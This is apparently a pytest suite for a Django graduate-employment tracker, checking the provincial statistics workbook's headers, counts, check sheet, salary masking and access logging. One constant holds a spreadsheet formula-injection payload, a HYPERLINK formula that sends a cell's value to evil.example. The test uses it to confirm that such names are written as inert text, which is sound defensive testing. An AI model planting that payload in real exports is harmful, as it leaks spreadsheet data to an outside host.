"""The provincial workbook: the 就业情况统计表 in the official layout of the reference templates
(core/reference/provincial_employment_table_columns.csv), its 核对清单, and its caption and headers through the
one neutralising writer (core.xlsx)."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from gradtrack.core import reference
from gradtrack.core.models import Destination, Industry, MajorCategory, PolicySettings
from gradtrack.records.models import Department, Graduate
from gradtrack.stats import exports, selectors
from gradtrack.stats.selectors import Cohorts, resolve_scope
from gradtrack.testing.factories import EmployerFactory, EmploymentFactory, GraduateFactory, MajorFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A3,"机电系")'


def test_a_department_named_like_a_formula_lands_as_text_in_the_provincial_caption(
    small_school, centre_client
):
    Department.objects.filter(code="JD").update(name=HOSTILE)

    response = centre_client.get("/stats/provincial/", {"scope": "dept:JD", "first": 2026, "last": 2026})

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        caption = sheet["A1"]
        assert caption.data_type != "f"
        assert not str(caption.value).startswith("=")
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert workbook["按专业大类"]["A1"].value.startswith("'=HYPERLINK(")


def test_a_chart_export_of_a_department_with_a_slash_in_its_name_still_downloads(small_school, centre_client):
    Department.objects.filter(code="JD").update(name="机电/数控[系]")

    response = centre_client.get(
        "/stats/export/rates_by_cohort/", {"scope": "dept:JD", "first": 2026, "last": 2026}
    )

    assert response.status_code == 200
    load_workbook(io.BytesIO(response.content))


# --- The provincial table in the official layout (issue 14 item 6) -------------------------------------------

OFFICIAL = "就业情况统计表"
BY_MAJOR = "就业情况统计表（分专业）"
CHECKS = "核对清单"
TOP = 3  # the three header rows start here; the data rows follow
# The 起薪 bands of the default settings (PolicySettings.starting_salary_bands "1000,2000,3000").
DEFAULT_SALARY_BANDS = ["1000及以下", "1001–2000", "2001–3000", "3000以上"]
TEMPLATES = list(dict.fromkeys(r["template"] for r in reference.rows(reference.PROVINCIAL_COLUMNS)))


def _workbook(client, template=None, **query):
    params = {"scope": "school", "first": 2026, "last": 2026, **query}
    if template:
        params["template"] = template
    response = client.get("/stats/provincial/", params)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _grid(sheet) -> list[list]:
    """The sheet's values with every merged range's value copied into each of its cells."""
    grid = [[cell.value for cell in row] for row in sheet.iter_rows()]
    for merged in sheet.merged_cells.ranges:
        value = grid[merged.min_row - 1][merged.min_col - 1]
        for r in range(merged.min_row, merged.max_row + 1):
            for c in range(merged.min_col, merged.max_col + 1):
                grid[r - 1][c - 1] = value
    return grid


def _header_triples(sheet, stub: int) -> list[tuple]:
    grid = _grid(sheet)
    sections, headings, items = (grid[TOP - 1 + i][stub:] for i in range(3))
    return [
        (section, heading, "" if item == heading else item)
        for section, heading, item in zip(sections, headings, items, strict=True)
    ]


def _expected_columns(template: str) -> list[tuple]:
    """The reference's columns in order, as the README reads them: the by-category block's measures that are no
    column yet at its place (its categories are the rows), the 起薪 placeholder as the settings' bands, and
    以其他方式就业 — counted among 就业学生, absent from the 2011/2013 templates — beside the other 去向 groups."""
    expected: list[tuple] = []
    for row in reference.rows(reference.PROVINCIAL_COLUMNS):
        if row["template"] != template or row["col_order"] == "0":
            continue
        section, heading, item = row["section"], row["column_name"], row["sub_item"]
        if "；" in heading:
            labels = {i or h for _s, h, i in expected}
            expected += [(section, m, "") for m in heading.split("；") if m not in labels]
        elif item.startswith("（"):
            expected += [(section, heading, band) for band in DEFAULT_SALARY_BANDS]
        else:
            expected.append((section, heading, item))
            if item == "合法从事个体经营":
                expected.append((section, heading, "以其他方式就业"))
    return expected


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_header_rows_of_the_official_sheet_are_the_reference_columns_in_order(
    small_school, centre_client, template
):
    sheet = _workbook(centre_client, template)[OFFICIAL]
    assert _header_triples(sheet, stub=2) == _expected_columns(template)
    # the form's heading line (填报单位 …) in the reference's order
    form_fields = [
        r["column_name"]
        for r in reference.rows(reference.PROVINCIAL_COLUMNS)
        if r["template"] == template and r["col_order"] == "0"
    ]
    line = [value for value in next(sheet.iter_rows(min_row=2, max_row=2, values_only=True)) if value]
    assert [value.split("：")[0] for value in line] == form_fields
    # grouped columns are merged cells: each section over its columns
    merged = {str(r) for r in sheet.merged_cells.ranges}
    sections = [s for s, _h, _i in _expected_columns(template)]
    first = 3 + sections.index("就业学生数中：就业去向分组（二）" if template == "湖南2011" else "总体")
    width = sections.count(sections[first - 3])
    assert f"{get_column_letter(first)}{TOP}:{get_column_letter(first + width - 1)}{TOP}" in merged


def test_the_default_layout_is_the_fuller_template_and_an_unknown_one_falls_back_to_it(
    small_school, centre_client
):
    default = _header_triples(_workbook(centre_client)[OFFICIAL], stub=2)
    assert default == _expected_columns("广东2013")
    assert _header_triples(_workbook(centre_client, "四川2099")[OFFICIAL], stub=2) == default
    assert [s.title for s in _workbook(centre_client).worksheets][:3] == [OFFICIAL, BY_MAJOR, CHECKS]


def test_the_unconfirmed_and_the_added_columns_are_marked_and_explained(small_school, centre_client):
    sheet = _workbook(centre_client)[OFFICIAL]
    triples = _header_triples(sheet, stub=2)
    fills = {
        triple: sheet.cell(row=TOP + 2, column=3 + index).fill.fgColor.rgb
        for index, triple in enumerate(triples)
    }
    added, unconfirmed = exports.ADDED_FILL.fgColor.rgb, exports.UNCONFIRMED_FILL.fgColor.rgb
    assert fills[("就业学生中：就业去向分组（一）", "人数", "以其他方式就业")] == added
    assert fills[("起薪", "人数", "1001–2000")] == unconfirmed
    assert fills[("劳动合同期限", "人数", "未签合同")] == unconfirmed
    assert fills[("劳动合同期限", "人数", "2-3（含）年")] == unconfirmed
    assert fills[("劳动合同期限", "人数", "1年及以内")] not in (added, unconfirmed)
    notes = " ".join(
        str(c) for row in sheet.iter_rows(min_row=TOP + 3 + 20, values_only=True) for c in row if c
    )
    assert "浅蓝底色的列为本表增列" in notes and "以其他方式就业" in notes
    assert "浅黄底色的列在所读表式副本中未能核实" in notes and "有社会保险" in notes


# A hand-built 2026 cohort in two 专业大类 (66 in 机电系, 71 in 信息技术系); each job's values are chosen so that
# every column counts one record or none:
#   no  大类 去向            行业 地域  城乡 渠道 合同   社保 对口  起薪
#   a1  66  ZZ-E1          C    本地  城区 学校 ≤1年  有  是   3000
#   a2  66  ZZ-E2          H    异地  镇区 中介 1-2年 无  否   1500 (< 2100 最低工资)
#   a3  66  ZZ-E3          A    境外  乡村 其他 >3年  有  未判定 5000
#   a4  66  ZZ-S 升学       —
#   a5  66  ZZ-U 未就业     —
#   b1  71  ZZ-E1          C    本地  城区 学校 未签  有  是   900 (< 2100)
#   b2  71  ZZ-E1          (none: no 行业, 地域, 城乡, 渠道, 合同, 社保)  是   2500
#   b3  71  (no 去向)


@pytest.fixture
def cohort(department, other_department):
    sixty_six = MajorFactory(
        code="660302",
        name="机电技术应用",
        department=department,
        category=MajorCategory.objects.get(code="66"),
    )
    seventy_one = MajorFactory(code="710201", name="计算机应用", department=other_department)
    industry = {code: EmployerFactory(industry=Industry.objects.get(code=code)) for code in "ACH"}
    no_industry = EmployerFactory(industry=None)
    destination = {d.code: d for d in Destination.objects.all()}

    def graduate(no, major, code):
        return GraduateFactory(
            student_no=f"2026{no}",
            major=major,
            graduation_year=2026,
            destination=destination.get(code),
        )

    def job(who, employer, salary, **values):
        EmploymentFactory(
            graduate=who,
            employer=employer,
            monthly_salary=salary,
            starting_salary=salary,
            start_date=datetime.date(2026, 7, 1),
            probation_end=None,
            **values,
        )

    people = {}
    people["a1"] = graduate("a1", sixty_six, "ZZ-E1")
    job(people["a1"], industry["C"], 3000, **_values("local", "urban", "school", "le1", True, True))
    people["a2"] = graduate("a2", sixty_six, "ZZ-E2")
    job(people["a2"], industry["H"], 1500, **_values("elsewhere", "town", "agency", "1to2", False, False))
    people["a3"] = graduate("a3", sixty_six, "ZZ-E3")
    job(people["a3"], industry["A"], 5000, **_values("abroad", "rural", "other", "gt3", True, None))
    people["a4"] = graduate("a4", sixty_six, "ZZ-S")
    people["a5"] = graduate("a5", sixty_six, "ZZ-U")
    people["b1"] = graduate("b1", seventy_one, "ZZ-E1")
    job(people["b1"], industry["C"], 900, **_values("local", "urban", "school", "none", True, True))
    people["b2"] = graduate("b2", seventy_one, "ZZ-E1")
    job(people["b2"], no_industry, 2500, **_values("", "", "", "", None, True))
    people["b3"] = graduate("b3", seventy_one, None)
    return people


def _values(locality, area_type, channel, contract_term, social_insurance, matches_major):
    return dict(
        locality=locality,
        area_type=area_type,
        channel=channel,
        contract_term=contract_term,
        social_insurance=social_insurance,
        matches_major=matches_major,
    )


ZERO = {
    "毕业学生人数": 0,
    "就业学生人数": 0,
    "就业率": "—",
    "对口就业率": "—",
    **dict.fromkeys(
        [
            "各种所有制性质的企事业单位",
            "合法从事个体经营",
            "以其他方式就业",
            "升入各类高一级学校",
            "第一产业",
            "第二产业",
            "第三产业",
            "本地",
            "异地",
            "境外",
            "城区",
            "镇区",
            "乡村",
            "学校推荐",
            "中介介绍",
            "其他渠道",
            "对口就业人数",
            "1年及以内",
            "1-2（含）年",
            "2-3（含）年",
            "3年以上",
            "未签合同",
            *DEFAULT_SALARY_BANDS,
            "有社会保险",
        ],
        0,
    ),
}
ROW_66 = {
    **ZERO,
    **{"毕业学生人数": 5, "就业学生人数": 4, "就业率": 80, "对口就业率": 33.3},
    **dict.fromkeys(
        ["各种所有制性质的企事业单位", "合法从事个体经营", "以其他方式就业", "升入各类高一级学校"], 1
    ),
    **dict.fromkeys(["第一产业", "第二产业", "第三产业", "本地", "异地", "境外", "城区", "镇区", "乡村"], 1),
    **dict.fromkeys(
        ["学校推荐", "中介介绍", "其他渠道", "对口就业人数", "1年及以内", "1-2（含）年", "3年以上"], 1
    ),
    **{"1001–2000": 1, "2001–3000": 1, "3000以上": 1, "有社会保险": 2},
}
ROW_71 = {
    **ZERO,
    **{"毕业学生人数": 3, "就业学生人数": 2, "就业率": 66.7, "对口就业率": 100},
    **{
        "各种所有制性质的企事业单位": 2,
        "第二产业": 1,
        "本地": 1,
        "城区": 1,
        "学校推荐": 1,
        "对口就业人数": 2,
    },
    **{"未签合同": 1, "1000及以下": 1, "2001–3000": 1, "有社会保险": 1},
}
TOTAL = {
    key: (ROW_66[key] + ROW_71[key] if key not in ("就业率", "对口就业率") else None) for key in ZERO
} | {"就业率": 75, "对口就业率": 60}


def _rows_by_label(sheet, stub: int) -> dict[str, dict]:
    """{row name: {column label: value}} of the official sheet's data rows."""
    labels = [item or heading for _s, heading, item in _header_triples(sheet, stub)]
    rows = {}
    for values in sheet.iter_rows(min_row=TOP + 3, values_only=True):
        if values[stub - 1] is None or (values[0] or "").startswith(("注", "2.", "3.", "4.", "5.")):
            break
        rows[values[stub - 1]] = dict(zip(labels, values[stub:], strict=True))
    return rows


def test_every_cell_of_a_category_row_and_of_the_total_is_counted_by_hand(cohort, centre_client):
    sheet = _workbook(centre_client)[OFFICIAL]
    rows = _rows_by_label(sheet, stub=2)
    categories = {
        r["code"]: r["name"] for r in reference.rows(reference.MAJOR_CATEGORIES) if r["level"] == "大类"
    }
    # every 2021 专业大类 in code order, then the total
    assert list(rows) == [*(categories[code] for code in sorted(categories)), "合计"]
    assert rows[categories["66"]] == ROW_66
    assert rows[categories["71"]] == ROW_71
    assert rows["合计"] == TOTAL
    assert rows[categories["61"]] == ZERO


def test_the_by_major_sheet_has_a_row_per_major_in_the_same_layout(cohort, centre_client):
    sheet = _workbook(centre_client)[BY_MAJOR]
    rows = _rows_by_label(sheet, stub=3)
    assert list(rows) == ["机电技术应用", "计算机应用", "合计"]
    assert rows["机电技术应用"] == ROW_66 and rows["合计"] == TOTAL


def test_the_totals_equal_the_statistics_of_the_page_for_the_same_cohort(cohort, centre_client):
    rows = _rows_by_label(_workbook(centre_client)[OFFICIAL], stub=2)
    _assert_total_is_the_statistics(rows["合计"], resolve_scope(None, "school"))


def _assert_total_is_the_statistics(total: dict, scope, year: int = 2026):
    stats = selectors.statistics_for(scope, Cohorts(year, year))
    figures = stats.total
    assert (total["毕业学生人数"], total["就业学生人数"], total["对口就业人数"]) == (
        figures.graduates,
        figures.employed,
        figures.matched,
    )
    for label, rate in (("就业率", figures.employment_rate), ("对口就业率", figures.matched_rate)):
        assert total[label] == (float(rate) if rate is not None else "—")
    shares = [
        *stats.destinations,
        *stats.sectors,
        *stats.localities,
        *stats.area_types,
        *stats.channels,
        *stats.contract_terms,
        *stats.salary_distribution,
    ]
    for share in shares:
        if share.key:  # not the 未填
            label = share.label
            if label == "到国家机关、企事业单位就业":
                label = "各种所有制性质的企事业单位"
            if label in total:
                assert total[label] == share.count, label
    insured = next(s for s in stats.social_insurance if s.key == "True")
    assert total["有社会保险"] == insured.count


CHECK_REASONS = {
    "a2": {"起薪低于当地最低工资标准"},
    "a3": {"直接就业但未判定是否专业对口"},
    "b1": {"起薪低于当地最低工资标准"},
    "b2": {
        "在职工作的单位未填行业（三次产业）",
        "在职工作未填就业地域",
        "在职工作未填城乡类别",
        "在职工作未填就业渠道",
        "在职工作未填劳动合同期限",
        "在职工作未填社会保险",
    },
    "b3": {"未填毕业去向"},
}


def _checks(workbook) -> dict[str, dict]:
    rows = list(workbook[CHECKS].iter_rows(min_row=2, values_only=True))
    headers = rows[0]
    return {row[0]: dict(zip(headers, row, strict=True)) for row in rows[1:]}


def test_the_check_sheet_lists_exactly_the_questionable_records_with_their_reasons(cohort, centre_client):
    checks = _checks(_workbook(centre_client))
    assert set(checks) == {f"2026{no}" for no in CHECK_REASONS}
    for no, reasons in CHECK_REASONS.items():
        row = checks[f"2026{no}"]
        marked = {header for header, value in row.items() if value == "是"}
        assert marked == reasons, no
    assert checks["2026a2"]["起薪（元）"] == 1500
    assert checks["2026b1"]["姓名"] == cohort["b1"].name


def test_a_template_without_a_column_does_not_ask_for_its_value(cohort, centre_client):
    """湖南2011 has no 对口, 城乡, 合同期限 or 社会保险: a record lacking only those is not listed."""
    checks = _checks(_workbook(centre_client, "湖南2011"))
    assert "2026a3" not in checks  # only its 对口 judgement is missing
    marked = {header for header, value in checks["2026b2"].items() if value == "是"}
    assert marked == {"在职工作的单位未填行业（三次产业）", "在职工作未填就业地域", "在职工作未填就业渠道"}


def test_a_leader_sees_the_check_sheet_with_salaries_masked_and_the_export_is_logged(
    cohort, leader_client, leader_user
):
    from gradtrack.security.models import AccessLogEntry

    checks = _checks(_workbook(leader_client))
    assert {row["起薪（元）"] for row in checks.values()} <= {"****", None}
    assert {row["在职月薪（元）"] for row in checks.values()} <= {"****", None}
    entry = AccessLogEntry.objects.get(actor=leader_user)
    assert entry.record_count == len(CHECK_REASONS)


def test_a_department_users_workbook_holds_only_its_department(cohort, dept_client, department):
    workbook = _workbook(dept_client)
    rows = _rows_by_label(workbook[OFFICIAL], stub=2)
    categories = {
        r["code"]: r["name"] for r in reference.rows(reference.MAJOR_CATEGORIES) if r["level"] == "大类"
    }
    assert rows["合计"] == ROW_66
    assert rows[categories["71"]] == ZERO
    assert list(_rows_by_label(workbook[BY_MAJOR], stub=3)) == ["机电技术应用", "合计"]
    assert set(_checks(workbook)) == {"2026a2", "2026a3"}
    assert all(row["系部"] == department.name for row in _checks(workbook).values())


def test_the_workbook_takes_as_many_queries_for_twice_the_graduates(cohort, department):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries():
        stats = selectors.statistics_for(resolve_scope(None, "school"), Cohorts(2026, 2026))
        with CaptureQueriesContext(connection) as captured:
            exports.provincial_workbook(stats)
        return len(captured)

    before = queries()
    major = Graduate.objects.get(student_no="2026a1").major
    for _n in range(8):
        extra = GraduateFactory(major=major, graduation_year=2026, destination=cohort["a1"].destination)
        EmploymentFactory(graduate=extra, matches_major=None, locality="")
    assert queries() == before


def test_the_demo_schools_workbook_has_every_column_group_filled_and_the_totals_of_its_statistics(
    db, settings, client
):
    from gradtrack.site import demo

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    school = demo.build_demo_school(graduates=240, employers=40, seed=5, today=timezone.localdate())
    year = max(graduate.graduation_year for graduate in school.graduates)
    client.force_login(school.users["centre"])
    workbook = _workbook(client, first=year, last=year)
    sheet = workbook[OFFICIAL]
    total = _rows_by_label(sheet, stub=2)["合计"]
    _assert_total_is_the_statistics(total, resolve_scope(None, "school"), year)
    triples = _header_triples(sheet, stub=2)
    for section in dict.fromkeys(s for s, _h, _i in triples):
        labels = [item or heading for s, heading, item in triples if s == section]
        assert any(total[label] not in (0, "—") for label in labels), section
    marked = {header for row in _checks(workbook).values() for header, value in row.items() if value == "是"}
    assert {"去向代码12/76而月薪低于当地最低工资标准", "直接就业但未判定是否专业对口"} <= marked


def test_the_statistics_page_offers_each_template_the_default_first(small_school, centre_client):
    from urllib.parse import quote

    html = centre_client.get("/stats/", {"scope": "school", "first": 2026, "last": 2026}).content.decode()
    links = [html.index(f"template={quote(name)}") for name in ("广东2013", "湖南2011")]
    assert links == sorted(links)
    assert "中职毕业生就业情况统计表（广东2013表式）" in html and "统计表按湖南2011表式" in html


def test_the_band_columns_follow_the_settings_and_a_band_the_copy_does_not_name_is_marked(
    cohort, centre_client
):
    PolicySettings.objects.update_or_create(
        pk=PolicySettings.current().pk,
        defaults={"starting_salary_bands": "2100,4000", "contract_term_bands": "1,3"},
    )
    sheet = _workbook(centre_client)[OFFICIAL]
    triples = _header_triples(sheet, stub=2)
    assert [i for s, _h, i in triples if s == "起薪"] == ["2100及以下", "2101–4000", "4000以上"]
    assert [i for s, _h, i in triples if s == "劳动合同期限"] == [
        "1年及以内",
        "1-3（含）年",
        "3年以上",
        "未签合同",
    ]
    rows = _rows_by_label(sheet, stub=2)
    # 起薪 1500, 3000, 5000 in 66; 900, 2500 in 71. Terms ≤1年 a1, 1-2年 a2 (→ 1-3), >3年 a3, 未签 b1.
    assert [rows["合计"][band] for band in ("2100及以下", "2101–4000", "4000以上")] == [2, 2, 1]
    assert [rows["合计"][t] for t in ("1年及以内", "1-3（含）年", "3年以上", "未签合同")] == [1, 1, 1, 1]
    column = 3 + triples.index(("劳动合同期限", "人数", "1-3（含）年"))
    assert sheet.cell(row=TOP + 2, column=column).fill.fgColor.rgb == exports.UNCONFIRMED_FILL.fgColor.rgb
